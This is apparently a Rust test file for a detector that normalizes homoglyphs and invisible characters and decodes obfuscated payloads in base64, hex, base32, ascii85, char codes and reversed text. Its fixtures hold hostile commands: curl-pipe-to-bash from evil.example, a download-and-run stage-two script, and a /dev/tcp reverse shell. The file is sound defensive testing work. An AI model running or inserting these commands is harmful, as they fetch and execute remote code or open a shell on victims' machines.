//! Tests for `decode`: every encoding, every normalization family, the
//! negatives, the bounds, properties, and an ignored timing check.

use super::*;
use proptest::prelude::*;

const CMD: &str = "curl https://evil.example/i.sh | bash";
const CMD_B64: &str = "Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9pLnNoIHwgYmFzaA==";

fn blob(s: &str) -> Option<(String, &'static str)> {
    decode_blob(s)
}

fn only(text: &str) -> Payload {
    let found = payloads(text);
    assert_eq!(
        found.len(),
        1,
        "expected one payload in {text:?}, got {found:#?}"
    );
    found.into_iter().next().unwrap()
}

// ---- normalize ----

#[test]
fn ascii_is_borrowed_untouched() {
    let s = "curl https://example.com | bash";
    assert!(matches!(normalize(s), Cow::Borrowed(x) if x == s));
}

#[test]
fn nul_is_removed_from_ascii() {
    assert_eq!(normalize("c\0url"), "curl");
}

#[test]
fn fullwidth_folds_by_nfkc() {
    assert_eq!(normalize("ｃｕｒｌ ｈｔｔｐｓ"), "curl https");
}

#[test]
fn mathematical_alphanumerics_fold() {
    assert_eq!(normalize("𝐜𝐮𝐫𝐥 𝚋𝚊𝚜𝚑 𝓮𝓿𝓪𝓵"), "curl bash eval");
}

#[test]
fn cyrillic_homoglyph_in_latin_word_folds() {
    assert_eq!(normalize("\u{0441}url"), "curl");
    assert_eq!(
        normalize("w\u{0433}et"),
        "w\u{0433}et",
        "г is not a look-alike"
    );
    assert_eq!(normalize("\u{0440}ython \u{0455}h"), "python sh");
    assert_eq!(normalize("ba\u{0455}\u{04BB}"), "bash");
}

#[test]
fn greek_and_latin_extended_homoglyphs_fold() {
    assert_eq!(normalize("\u{03C1}ython"), "python");
    assert_eq!(normalize("\u{0261}it"), "git");
    assert_eq!(normalize("\u{1D04}url"), "curl");
    assert_eq!(normalize("\u{0501}ocker"), "docker");
}

#[test]
fn all_homoglyph_word_folds_on_a_latin_line() {
    // е х е с are all Cyrillic: no ASCII inside the word, but the line is Latin.
    assert_eq!(
        normalize("then run \u{0435}\u{0445}\u{0435}\u{0441} now"),
        "then run exec now"
    );
}

#[test]
fn russian_sentence_is_left_alone() {
    let s = "Я пошёл с другом в парк, а он остался дома.";
    assert!(matches!(normalize(s), Cow::Borrowed(_)));
    let greek = "Αυτό είναι ένα κείμενο και ο κόσμος";
    assert_eq!(normalize(greek), greek);
}

#[test]
fn latin_word_on_a_russian_line_still_folds() {
    assert_eq!(
        normalize("Запустите \u{0441}url сейчас"),
        "Запустите curl сейчас"
    );
}

#[test]
fn invisible_characters_are_removed() {
    assert_eq!(normalize("cu\u{200B}rl"), "curl");
    assert_eq!(normalize("cu\u{200D}r\u{2060}l"), "curl");
    assert_eq!(normalize("cu\u{AD}rl"), "curl");
    assert_eq!(normalize("\u{FEFF}curl"), "curl");
    assert_eq!(normalize("cu\u{180E}r\u{2063}l"), "curl");
    assert_eq!(normalize("curl\u{E0069}\u{E0067}"), "curl");
}

#[test]
fn zwnj_inside_persian_is_removed_for_analysis() {
    // Decision: normalize's output is only analysed, never shown or written;
    // `unicode.rs` judges ZWNJ use on the raw text.
    assert_eq!(normalize("می\u{200C}خواهم"), "میخواهم");
}

#[test]
fn normalize_is_idempotent_on_examples() {
    for s in [
        "\u{0441}\u{0301}url",
        "е\u{0301}x",
        "ｃ\u{0441}url\u{200B}",
        "Я с тобой",
    ] {
        let once = normalize(s).into_owned();
        assert_eq!(normalize(&once), once, "{s:?}");
    }
}

#[test]
fn confusable_tables_line_up() {
    let from = CONFUSABLE_FROM.to_vec();
    assert_eq!(from.len(), CONFUSABLE_TO.len());
    assert!(CONFUSABLE_TO.bytes().all(|b| b.is_ascii_alphabetic()));
    assert!(from.iter().all(|c| !c.is_ascii() && !is_invisible(*c)));
    assert!(
        from.windows(2).all(|w| w[0] < w[1]),
        "sorted, no duplicates"
    );
    assert_eq!(confusable('\u{0441}'), Some('c'));
    assert_eq!(confusable('\u{A731}'), Some('s'));
    assert_eq!(confusable('c'), None);
}

// ---- decode_blob ----

#[test]
fn base64_standard() {
    assert_eq!(blob(CMD_B64), Some((CMD.into(), "base64")));
}

#[test]
fn base64_url_safe_unpadded_and_wrapped() {
    let (t, name) = blob("d2dldCBodHRwOi8veC5leGFtcGxlLz9hPT4-PmImYz0_Pz8").unwrap();
    assert_eq!(
        (t.as_str(), name),
        ("wget http://x.example/?a=>>>b&c=???", "base64")
    );
    let wrapped = "Y3VybCBodHRwczovL2V2aWwu\n  ZXhhbXBsZS9pLnNoIHwgYmFzaA==\n";
    assert_eq!(blob(wrapped), Some((CMD.into(), "base64")));
}

#[test]
fn hex_forms() {
    assert_eq!(
        blob("6375726c2068747470"),
        Some(("curl http".into(), "hex"))
    );
    assert_eq!(blob(r"\x63\x75\x72\x6c"), Some(("curl".into(), "hex")));
    assert_eq!(blob("0x63,0x75,0x72,0x6c"), Some(("curl".into(), "hex")));
    assert_eq!(blob("0x63 0x75 0x72 0x6c"), Some(("curl".into(), "hex")));
}

#[test]
fn base32_rfc4648() {
    let b32 = "MN2XE3BANB2HI4DTHIXS6ZLWNFWC4ZLYMFWXA3DFF5US443IEB6CAYTBONUA====";
    assert_eq!(blob(b32), Some((CMD.into(), "base32")));
    assert_eq!(blob("MZXW6YTBOI======"), Some(("foobar".into(), "base32")));
}

#[test]
fn ascii85_adobe() {
    let a85 = r#"<~@s)g.+D>k=E-"&n04f<@CbB:D@;Tt"AM7aMF(c\D+C\c#BE~>"#;
    assert_eq!(blob(a85), Some((CMD.into(), "ascii85")));
    assert_eq!(ascii85("<~9jqo^~>"), Some(b"Man ".to_vec()));
    assert_eq!(ascii85("<~z~>"), Some(vec![0; 4]));
}

#[test]
fn base85_rfc1924() {
    // Python's base64.b85encode alphabet (RFC 1924); Z85 is not decoded.
    let b85 = "V|8+DAZT=SaC15@FJ*RVY%XPZVQp}1WiM$ib7&xZAYx&2Xa";
    assert_eq!(blob(b85), Some((CMD.into(), "base85")));
}

#[test]
fn octal_and_unicode_escapes() {
    assert_eq!(blob(r"\143\165\162\154"), Some(("curl".into(), "octal")));
    assert_eq!(
        blob(r"\u0063\u0075\u0072\u006c"),
        Some(("curl".into(), "unicode-escape"))
    );
    assert_eq!(
        blob(r"\u{63}\u{75}\u{72}\u{6c}"),
        Some(("curl".into(), "unicode-escape"))
    );
    assert_eq!(
        blob(r"\uD83D\uDE00\u0063\u0075\u0072"),
        Some(("😀cur".into(), "unicode-escape"))
    );
    assert_eq!(
        blob(r"\x63\165\u0072\x6c"),
        Some(("curl".into(), "escapes"))
    );
}

#[test]
fn percent_encoding() {
    assert_eq!(
        blob("%63%75%72%6c%20http"),
        Some(("curl http".into(), "percent"))
    );
}

#[test]
fn char_code_lists() {
    assert_eq!(blob("99,117,114,108"), Some(("curl".into(), "charcode")));
    assert_eq!(
        blob("[99, 117, 114, 108, 32, 104, 116, 116, 112]"),
        Some(("curl http".into(), "charcode"))
    );
    assert_eq!(
        blob("String.fromCharCode(99,117,114,108)"),
        Some(("curl".into(), "charcode"))
    );
    assert_eq!(
        blob("chr(99)+chr(117)+chr(114)+chr(108)"),
        Some(("curl".into(), "charcode"))
    );
    assert_eq!(
        blob("[char]99+[char]117+[char]114+[char]108"),
        Some(("curl".into(), "charcode"))
    );
    assert_eq!(
        blob("print(99,117,114,108)"),
        None,
        "unknown wrapper words refuse"
    );
}

#[test]
fn jwt_segment_is_text() {
    let (t, name) = blob("eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0").unwrap();
    assert_eq!(
        (t.as_str(), name),
        (r#"{"sub":"1234567890","name":"John Doe"}"#, "base64")
    );
}

#[test]
fn blob_negatives() {
    let png =
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgAAACAAFUok9dAAAAAElFTkSuQmCC";
    for s in [
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", // SHA-256
        "9fceb02d0ae598e95dc970b74767f19372d61af8",                         // git commit
        "550e8400-e29b-41d4-a716-446655440000",                             // UUID
        "The quick brown fox jumps over the lazy dog while nobody watches",
        png,
        "password",
        "testtest",
        "hello",
        "",
    ] {
        assert_eq!(blob(s), None, "{s:?}");
    }
}

#[test]
fn latin1_text_is_accepted_binary_is_not() {
    assert_eq!(
        plausible_text(b"caf\xe9 cr\xe8me".to_vec()).as_deref(),
        Some("café crème")
    );
    assert_eq!(
        plausible_text(vec![0x89, 0xb5, 0xeb, 0xfe, 0xa1, 0xc3]),
        None
    );
    assert_eq!(plausible_text(b"ab\0\0\0\0".to_vec()), None);
    assert_eq!(plausible_text(b"abc".to_vec()), None, "shorter than 4");
}

// ---- payloads ----

#[test]
fn base64_payload_in_a_script() {
    let p = only(&format!("#!/bin/sh\n\necho {CMD_B64} | base64 -d | sh\n"));
    assert_eq!(
        (p.line, p.encoding.as_str(), p.decoded.as_str()),
        (3, "base64", CMD)
    );
    assert_eq!(p.encoded, CMD_B64);
}

#[test]
fn base64_wrapped_over_lines() {
    let text = "payload:\nIyEvYmluL3NoCnNldCAtZQpjdXJsIC1mc1NMIGh0dHBzOi8vZXZpbC5leGFtcGxlL3N0YWdlMi5z\n\
                aCAtbyAvdG1wL3MyCmNobW9kICt4IC90bXAvczIgJiYgL3RtcC9zMiAtLXF1aWV0Cg==\nend of it\n";
    let p = only(text);
    assert_eq!(p.line, 2);
    assert!(
        p.decoded
            .contains("curl -fsSL https://evil.example/stage2.sh -o /tmp/s2"),
        "{p:?}"
    );
    assert!(p.decoded.ends_with("--quiet\n"), "{p:?}");
}

#[test]
fn hex_escape_and_code_payloads() {
    let cases = [
        (r#"s = "\x63\x75\x72\x6c""#, "hex", "curl"),
        (r"printf '\143\165\162\154 http' | sh", "octal", "curl http"),
        (
            r#"let s = "\u0063\u0075\u0072\u006c";"#,
            "unicode-escape",
            "curl",
        ),
        (
            "x = [99,117,114,108,32,104,116,116,112]",
            "charcode",
            "curl http",
        ),
        (
            "eval(String.fromCharCode(99,117,114,108))",
            "charcode",
            "curl",
        ),
        (
            "exec(chr(99)+chr(117)+chr(114)+chr(108))",
            "charcode",
            "curl",
        ),
        (
            "iex ([char]99+[char]117+[char]114+[char]108)",
            "charcode",
            "curl",
        ),
        ("b = [0x63, 0x75, 0x72, 0x6c]", "hex", "curl"),
        ("cmd=$'\\x63\\x75rl' ; $cmd", "hex", "curl"),
        (
            "GET /?q=%63%75%72%6c%20%68%74%74%70 HTTP/1.1",
            "percent",
            "curl http",
        ),
        (
            "echo 6375726c2068747470733a2f2f6576696c2e6578616d706c65 | xxd -r -p",
            "hex",
            "curl https://evil.example",
        ),
    ];
    for (text, encoding, decoded) in cases {
        let p = only(text);
        assert_eq!(
            (p.encoding.as_str(), p.decoded.as_str()),
            (encoding, decoded),
            "{text}"
        );
    }
}

#[test]
fn ascii85_and_base32_payloads() {
    let p = only(r#"data = b'<~@s)g.+D>k=E-"&n04f<@CbB:D@;Tt"AM7aMF(c\D+C\c#BE~>'"#);
    assert_eq!((p.encoding.as_str(), p.decoded.as_str()), ("ascii85", CMD));
    let p = only("key: MN2XE3BANB2HI4DTHIXS6ZLWNFWC4ZLYMFWXA3DFF5US443IEB6CAYTBONUA====\n");
    assert_eq!((p.encoding.as_str(), p.decoded.as_str()), ("base32", CMD));
}

#[test]
fn nested_encodings_report_the_chain() {
    let b64_hex = "NjM3NTcyNmMyMDY4NzQ3NDcwNzMzYTJmMmY2NTc2Njk2YzJlNjU3ODYxNmQ3MDZjNjUyZjY5MmU3MzY4MjA3YzIwNjI2MTczNjg=";
    let p = only(&format!("run: {b64_hex}"));
    assert_eq!(
        (p.encoding.as_str(), p.decoded.as_str()),
        ("base64>hex", CMD)
    );
    let triple = "TmpNM05UY3lObU15TURZNE56UTNORGN3TnpNellUSm1NbVkyTlRjMk5qazJZekpsTmpVM09EWXhObVEzTURaak5qVXlaalk1TW1VM016WTRNakEzWXpJd05qSTJNVGN6TmpnPQ==";
    let p = only(triple);
    assert_eq!(
        (p.encoding.as_str(), p.decoded.as_str()),
        ("base64>base64>hex", CMD)
    );
}

#[test]
fn payload_inside_a_decoded_script_is_found_too() {
    let inner = format!("#!/bin/sh\necho {CMD_B64} | base64 -d | sh\n");
    let outer = base64_encode(inner.as_bytes());
    let found = payloads(&format!("line one\nx='{outer}'\n"));
    assert_eq!(found.len(), 2, "{found:#?}");
    assert_eq!((found[0].line, found[0].encoding.as_str()), (2, "base64"));
    assert_eq!(found[0].decoded, inner);
    assert_eq!(
        (found[1].line, found[1].encoding.as_str()),
        (2, "base64>base64")
    );
    assert_eq!(found[1].decoded, CMD);
    assert_eq!(
        found[1].encoded, found[0].encoded,
        "nested payloads cite the outer text"
    );
}

#[test]
fn depth_is_capped_at_four_layers() {
    let mut s = CMD.to_owned();
    for _ in 0..6 {
        s = base64_encode(s.as_bytes());
    }
    let found = payloads(&s);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].encoding, "base64>base64>base64>base64");
}

#[test]
fn payload_negatives() {
    let png =
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgAAACAAFUok9dAAAAAElFTkSuQmCC";
    let text = format!(
        "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\n\
         commit 9fceb02d0ae598e95dc970b74767f19372d61af8\n\
         md5 d41d8cd98f00b204e9800998ecf8427e id 550e8400-e29b-41d4-a716-446655440000\n\
         ![logo](data:image/png;base64,{png})\n\
         See /usr/local/share/applications/something-long-here/README.md for details.\n\
         AbstractSingletonProxyFactoryBeanDefinitionRegistryPostProcessor\n\
         The quick brown fox jumps over the lazy dog; versions 1, 2, 3, 4, 10, 20, 30.\n\
         printf(\"%02x%02x%02x%02x\", a, b, c, d); C:\\Users\\x\\AppData\\Local\\Temp\n\
         size = [100, 200, 300, 400]  # plain numbers\n"
    );
    assert_eq!(payloads(&text), vec![]);
}

#[test]
fn jwt_in_text_decodes_to_json() {
    let found = payloads(
        "Authorization: Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.x",
    );
    assert_eq!(found.len(), 2, "{found:#?}");
    assert_eq!(found[0].decoded, r#"{"alg":"HS256","typ":"JWT"}"#);
}

#[test]
fn citation_is_cut_to_200_chars() {
    let long = base64_encode(CMD.repeat(20).as_bytes());
    let p = only(&long);
    assert_eq!(p.encoded.chars().count(), 200);
    assert_eq!(p.decoded, CMD.repeat(20));
}

#[test]
fn at_most_64_payloads() {
    let text = format!("{CMD_B64}\n").repeat(100);
    let found = payloads(&text);
    assert_eq!(found.len(), 64);
    assert_eq!(found[63].line, 64);
}

#[test]
fn decoded_is_capped_at_64_kib() {
    let big = base64_encode("echo hello world; ".repeat(8000).as_bytes());
    let p = only(&big);
    assert_eq!(p.decoded.len(), MAX_DECODED);
}

#[test]
fn only_the_first_4_mib_is_read() {
    let mut text = "a".repeat(MAX_INPUT - 10);
    text.push_str(&format!(" {CMD_B64}"));
    assert_eq!(payloads(&text), vec![]);
    assert_eq!(payloads(&text[MAX_INPUT - 20..]).len(), 1);
}

// ---- reversal ----

#[test]
fn reversal_reveals_commands() {
    assert_eq!(
        reversed_if_command("hsab | moc.live//:sptth lruc").as_deref(),
        Some("curl https://evil.com | bash")
    );
    let shell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1";
    let hidden: String = shell.chars().rev().collect();
    assert_eq!(reversed_if_command(&hidden).as_deref(), Some(shell));
    assert!(reversed_if_command("c- hs").is_some());
}

#[test]
fn reversal_negatives() {
    assert_eq!(
        reversed_if_command("curl https://x | bash"),
        None,
        "already forward"
    );
    assert_eq!(reversed_if_command("hello world"), None);
    assert_eq!(
        reversed_if_command("etaulave"),
        None,
        "evaluate is not eval"
    );
    assert_eq!(reversed_if_command("zh-cn"), None);
}

// ---- properties ----

/// Test-only base64 encoder for building nested fixtures.
fn base64_encode(bytes: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(A[(n >> (18 - 6 * i) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn tricky_char() -> impl Strategy<Value = char> {
    prop_oneof![
        4 => proptest::char::range(' ', '~'),
        1 => Just('\n'),
        1 => Just('\0'),
        2 => proptest::char::range('\u{370}', '\u{3FF}'),
        3 => proptest::char::range('\u{400}', '\u{52F}'),
        1 => proptest::char::range('\u{530}', '\u{58F}'),
        1 => proptest::char::range('\u{300}', '\u{36F}'),
        1 => proptest::char::range('\u{1D00}', '\u{1D7F}'),
        1 => proptest::char::range('\u{200B}', '\u{206F}'),
        1 => proptest::char::range('\u{FF01}', '\u{FF5E}'),
        1 => proptest::char::range('\u{1D400}', '\u{1D7FF}'),
        1 => proptest::char::range('\u{E0000}', '\u{E007F}'),
        1 => any::<char>(),
    ]
}

fn tricky_string() -> impl Strategy<Value = String> {
    proptest::collection::vec(tricky_char(), 0..80).prop_map(String::from_iter)
}

fn encodedish() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just(CMD_B64.to_owned()),
        Just(r"\x63\x75\x72\x6c".to_owned()),
        Just("[99,117,114,108]".to_owned()),
        Just("<~9jqo^".to_owned()),
        Just("~>".to_owned()),
        Just("$'\\x63".to_owned()),
        Just("%63%75%72%6c".to_owned()),
        Just("chr(99)+".to_owned()),
        "[A-Za-z0-9+/=]{0,90}",
        "[0-9a-f]{0,70}",
        "[ ,\n\\\\x0-9]{0,20}",
        tricky_string(),
    ];
    proptest::collection::vec(piece, 0..12).prop_map(|v| v.concat())
}

fn check_bounds(text: &str) {
    let lines = text.bytes().filter(|&b| b == b'\n').count() + 1;
    let found = payloads(text);
    assert!(found.len() <= MAX_PAYLOADS);
    for p in &found {
        assert!(p.decoded.len() <= MAX_DECODED);
        assert!(p.encoded.chars().count() <= CITE_CHARS);
        assert!((1..=lines).contains(&p.line));
        assert!(p.encoding.split('>').count() <= MAX_DEPTH);
    }
}

proptest! {
    #[test]
    fn normalize_is_idempotent(s in tricky_string()) {
        let once = normalize(&s).into_owned();
        prop_assert_eq!(normalize(&once).into_owned(), once);
    }

    #[test]
    fn normalize_never_panics_on_any_string(s in any::<String>()) {
        let once = normalize(&s).into_owned();
        prop_assert_eq!(normalize(&once).into_owned(), once);
    }

    #[test]
    fn payloads_stay_within_bounds(s in encodedish()) {
        check_bounds(&s);
    }

    #[test]
    fn payloads_never_panic_on_any_string(s in any::<String>()) {
        check_bounds(&s);
    }

    #[test]
    fn decode_blob_never_panics(s in encodedish()) {
        if let Some((t, _)) = decode_blob(&s) {
            prop_assert!(t.chars().count() >= 4 && t.len() <= MAX_DECODED);
        }
    }
}

// ---- timing ----

/// `cargo test --release -- --ignored --nocapture payloads_on_4_mib`
#[test]
#[ignore = "a measurement; run in release with --nocapture"]
fn payloads_on_4_mib_of_mixed_text() {
    let chunk = "## Setup\nRun the installer, then check the digest e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.\n\
         fn main() { let v = vec![1, 2, 3, 4, 10, 20]; println!(\"{:?} %d%s\", v); }\n\
         See /usr/local/share/applications/something-long-here/README.md and C:\\Users\\x\\AppData.\n\
         id: 550e8400-e29b-41d4-a716-446655440000 commit 9fceb02d0ae598e95dc970b74767f19372d61af8\n\
         AbstractSingletonProxyFactoryBeanDefinitionRegistryPostProcessor \\n\\t \"quoted\" 'text' $'\\n'\n\
         https://example.com/search?q=hello%20world&lang=en 12345678901234567890\n";
    let mut text = String::new();
    let mut i = 0;
    while text.len() < MAX_INPUT {
        text.push_str(chunk);
        i += 1;
        if i % 500 == 0 {
            text.push_str(&format!("echo {CMD_B64} | base64 -d\n"));
        }
    }
    // The fastest of five runs, so a busy machine does not decide the result.
    let mut took = std::time::Duration::MAX;
    let mut found = Vec::new();
    for _ in 0..5 {
        let start = std::time::Instant::now();
        found = payloads(&text);
        took = took.min(start.elapsed());
    }
    println!(
        "payloads over {} bytes: {} found in {:?}",
        text.len(),
        found.len(),
        took
    );
    // A measurement, not a timed test (docs/PERFORMANCE.md has the figure).
    assert!(!found.is_empty());
}
